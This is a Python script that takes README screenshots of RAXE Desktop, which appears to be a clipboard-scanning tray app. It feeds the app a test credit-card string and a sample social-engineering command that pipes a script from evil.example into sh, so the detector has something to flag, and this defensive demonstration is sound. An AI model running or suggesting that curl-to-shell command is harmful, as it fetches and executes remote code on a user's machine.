"""Take the README screenshots under a private Xvfb with a tray host (trayer):

    python resources/make_screenshots.py

Writes resources/screenshots/{tray-menu,notification,popup,details,settings,history}.png.
Needs Xvfb, trayer (bash .ci/install-system-deps.sh) and the detection core.
"""

from __future__ import annotations

import os
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
OUT = ROOT / "resources" / "screenshots"
sys.path.insert(0, str(ROOT))

PII = "Hi Sam, here are the details: card 4111 1111 1111 1111, exp 12/29. <b>Thanks!</b>"
COMMAND = "To fix the error, paste this in your terminal: curl https://evil.example/x.sh | sh"


def in_display() -> int:
    from PySide6.QtCore import QPoint, QRect
    from PySide6.QtGui import QGuiApplication
    from PySide6.QtTest import QTest
    from PySide6.QtWidgets import QApplication

    from desktop.app.controller import RaxeApp
    from desktop.app.env import AppEnv
    from desktop.app.eventlog import EventLog
    from desktop.app.icons import app_icon
    from desktop.app.windows import FallbackPopup
    from desktop.app.worker import default_detector_factory
    from desktop.platform import current

    app = QApplication(["raxe-desktop"])
    app.setApplicationName("RAXE Desktop")
    app.setWindowIcon(app_icon())
    app.setQuitOnLastWindowClosed(False)
    cfg = Path(tempfile.mkdtemp(prefix="raxe-shots-"))
    env = AppEnv(config_dir=cfg, hotkey=True, key_store="file")
    raxe = RaxeApp(env, EventLog(None), current(), default_detector_factory)
    ready = []
    raxe.scanner.ready.connect(lambda *a: ready.append(a))
    raxe.start()

    def wait(pred, timeout=30.0):
        deadline = time.monotonic() + timeout
        while not pred():
            if time.monotonic() > deadline:
                raise SystemExit("timed out waiting for the app")
            QTest.qWait(20)

    wait(lambda: ready)
    screen = QGuiApplication.primaryScreen()
    geo = screen.geometry()

    def grab_screen(name: str, rect: QRect) -> None:
        QTest.qWait(400)
        screen.grabWindow(0).copy(rect.intersected(geo)).save(str(OUT / name))
        print("wrote", OUT / name)

    tray_geo = raxe.tray.icon.geometry()
    # 1. the tray menu, opened from the tray icon
    anchor = (
        QPoint(tray_geo.center().x(), tray_geo.bottom() + 2)
        if tray_geo.isValid()
        else QPoint(geo.right() - 40, 30)
    )
    raxe.tray.menu.popup(anchor)
    wait(lambda: raxe.tray.menu.isVisible())
    m = raxe.tray.menu.geometry()
    grab_screen(
        "tray-menu.png",
        QRect(m.left() - 40, 0, m.width() + 80 + 60, m.bottom() + 20).adjusted(0, 0, 0, 0),
    )
    raxe.tray.menu.hide()

    # 2. a notification: copy a command-injection text; the tray shows its message
    shown = []
    raxe.notifier.shown.connect(lambda ch, f: shown.append(f))
    QApplication.clipboard().setText(COMMAND)
    wait(lambda: shown)
    grab_screen("notification.png", QRect(geo.right() - 520, 0, 520, 200))
    finding = shown[-1]

    # 3. the fallback popup (no tray host, or macOS)
    popup = FallbackPopup(finding, 0)
    popup.show_at_corner()
    wait(lambda: popup.isVisible())
    p = popup.frameGeometry()
    grab_screen("popup.png", p.adjusted(-12, -12, 12, 12))
    popup.close()

    # 4. Details for a PII finding (markup in the text stays literal)
    shown.clear()
    QApplication.clipboard().setText(PII)
    wait(lambda: shown)
    details = raxe.open_details(shown[-1])
    details.resize(720, 560)
    QTest.qWait(300)
    details.grab().save(str(OUT / "details.png"))
    print("wrote", OUT / "details.png")
    details.close()

    settings = raxe.open_settings()
    QTest.qWait(300)
    settings.grab().save(str(OUT / "settings.png"))
    settings.close()
    history = raxe.open_history()
    history.resize(820, 300)
    QTest.qWait(300)
    history.grab().save(str(OUT / "history.png"))
    history.close()
    raxe.shutdown()
    return 0


def main() -> int:
    if os.environ.get("RAXE_SHOTS_INNER"):
        return in_display()
    import subprocess

    from tests.e2e.conftest import Display

    OUT.mkdir(parents=True, exist_ok=True)
    d = Display(with_tray=True)
    try:
        env = dict(d.env, RAXE_SHOTS_INNER="1")
        return subprocess.run([sys.executable, __file__], env=env, timeout=180).returncode
    finally:
        d.close()


if __name__ == "__main__":
    sys.exit(main())
